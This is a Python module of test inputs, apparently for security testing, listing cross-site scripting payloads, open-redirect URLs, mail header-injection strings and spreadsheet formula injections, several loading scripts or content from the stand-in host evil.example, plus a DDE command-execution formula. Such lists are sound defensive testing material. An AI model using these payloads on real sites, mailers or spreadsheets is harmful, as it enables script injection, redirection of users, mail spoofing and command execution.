"""What attackers type: scripts, addresses of elsewhere, line breaks for mail heads, formulas."""

_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "a",
)
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover")
_SCHEMES = (
    *("javascript:x()", "JaVaScRiPt:x()", "java\tscript:x()", "java\nscript:x()", " javascript:x()"),
    *("javascript&colon;x()", "&#106;avascript:x()", "vbscript:x()", "data:text/html,<script>x()</script>"),
    *("data:image/svg+xml,<svg onload=x()>", "//evil.example/x.js"),
)
_WHOLE = (
    *("<script>x()</script>", "<ScRiPt>x()</ScRiPt>", "<script src=//evil.example>", "<scr<script>ipt>x()"),
    *("</textarea><script>x()</script>", "</title><script>x()</script>", '"><script>x()</script>'),
    *(
        "'><script>x()</script>",
        "--><script>x()</script>",
        "]]><script>x()</script>",
        "<script/x>x()</script>",
    ),
    *(
        '" onmouseover="x()',
        "' onfocus='x()",
        "` onload=`x()",
        '" autofocus onfocus=x() y="',
        "x onerror=x()",
    ),
    *(
        "<iframe src=javascript:x()>",
        "<iframe srcdoc='<script>x()</script>'>",
        "<object data=//evil.example>",
    ),
    *(
        "<embed src=//evil.example>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example>",
    ),
    *("<meta http-equiv=refresh content=0;//evil.example>", "<style>@import'//evil.example'</style>"),
    *(
        "<form action=//evil.example><button>x",
        "<math><mtext><script>x()</script>",
        "<svg><script>x()</script>",
    ),
    *(
        "<template><script>x()</script></template>",
        "<noscript><img src=x onerror=x()>",
        "\uff1cscript\uff1ex()",
    ),
    *(
        "{{x()}}",
        "${x()}",
        "<%= x() %>",
        "{% x %}",
        "#{x()}",
        "<!--><img src=x onerror=x()>",
        "<x onclick=x()>y",
    ),
    *(
        "![p](//evil.example/p.png)",
        "![p](javascript:x())",
        '[y](x "onclick=x()")',
        '<p style="x:url(//evil.example)">',
    ),
)
XSS = (
    *_WHOLE,
    *(f"<{tag} {handler}=x()>" for tag in _TAGS[:5] for handler in _HANDLERS),
    *(f"[y]({scheme})" for scheme in _SCHEMES),
    *(f"<a href='{scheme}'>y</a>" for scheme in _SCHEMES),
    *(f"<{tag} {handler}=x()//" for tag in _TAGS[5:] for handler in _HANDLERS),
)[:100]
"""Each would run or load something if it came onto a page as it was typed."""

RUNNING = tuple(p for p in XSS if p[0] == "<" and not p.startswith(("<scr<", "<%", "<a href='//")))
"""Those of them that a page would run or load as they stand, whatever stands around them."""

REDIRECTS = (
    *(
        "//evil.example",
        "///evil.example",
        "////evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "\\/evil.example",
    ),
    *("/\t/evil.example", "/\n/evil.example", "/\r/evil.example", "\t//evil.example", " //evil.example"),
    *(
        "https://evil.example",
        "http:evil.example",
        "https:/evil.example",
        "HTTPS://EVIL.EXAMPLE",
        "https:evil.example",
    ),
    *(
        "https://127.0.0.1:8000@evil.example",
        "https://127.0.0.1:8000.evil.example",
        "//127.0.0.1:8000@evil.example",
    ),
    *(
        "javascript:x()",
        "data:text/html,x",
        "vbscript:x()",
        "ftp://evil.example",
        "//evil%2eexample",
        "//evil。example",
    ),
    *(
        "/%2f/evil.example",
        "/%5cevil.example",
        "/.//evil.example",
        "/..//evil.example",
        "//[::1]@evil.example",
    ),
)
"""Addresses that lead elsewhere, if a browser is sent to them."""

MAIL = (
    *("x\r\nBcc: all@evil.example", "x\nBcc: all@evil.example", "x\rBcc: all@evil.example", "x\r\n\r\nBody"),
    *("x\r\n Bcc: all@evil.example", "x\r\n\tBcc: all@evil.example", "\r\nBcc: all@evil.example", "x\n\n"),
    *("x\u2028Bcc: all@evil.example", "x\u2029Bcc: all@evil.example", "x\x85Bcc: all@evil.example", "x\x00y"),
    *("x\x0bBcc: all@evil.example", "x\x0cBcc: all@evil.example", "x\x1cBcc: all@evil.example", "x\x1b[2Jy"),
    *("é\r\nBcc: all@evil.example", "é\u2028\u2028Bcc: all@evil.example", "Bcc: all@evil.example", "x\x7fy"),
    *(
        "=?utf-8?q?x=0D=0ABcc:_all@evil.example?=",
        "=?utf-8?b?eA0KQmNjOiBhbGxAZXZpbC5leGFtcGxl?=",
        "=?utf-8?q?x=22_=3Call=40evil.example=3E=2C_=22?=",
        "x =?us-ascii?q?y?= =?us-ascii?q?z?=",
        "x%0d%0aBcc: all@evil.example",
    ),
    *('x" <all@evil.example>, "y', "x\\", '"', "x (y", "x\u202emoc.live"),
    *("x, all@evil.example", "x; all@evil.example", "x <all@evil.example>", "x: y@evil.example;"),
    *("x\r\n.\r\nMAIL FROM:<x@evil.example>", "x" * 120, "é" * 120, "x " * 59),
)
"""Names, subjects and addresses that would add a head, a recipient or a second mail, or be read as another text."""

FORMULAS = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "=cmd|'/c calc'!A1",
        '=HYPERLINK("//x")',
    ),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff201"),
)
"""Cells that a spreadsheet would run."""
